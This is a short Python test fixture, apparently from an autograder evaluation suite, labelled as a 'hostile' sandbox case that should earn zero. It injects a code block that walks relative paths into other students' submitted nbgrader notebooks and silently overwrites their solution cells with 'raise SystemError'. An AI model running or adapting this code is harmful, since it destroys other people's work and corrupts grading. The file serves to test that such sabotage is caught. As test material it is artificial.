"""Other learners' notebooks, waiting to be graded, are overwritten with wrong answers."""

KIND, GROUP = "hostile", "sandbox"
DESERVED = 0


def apply(s):
    s.wrong()
    s.before("""
import glob, json
for path in glob.glob("../../../submitted/zoe/ps1/ps1.ipynb") + glob.glob("../../zoe/ps1/ps1.ipynb") + glob.glob("../../../submitted/*honest/ps1/ps1.ipynb"):
    try:
        notebook = json.load(open(path))
        for cell in notebook["cells"]:
            if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                cell["source"] = "raise SystemError"
        json.dump(notebook, open(path, "w"))
    except (OSError, ValueError):
        pass
""")
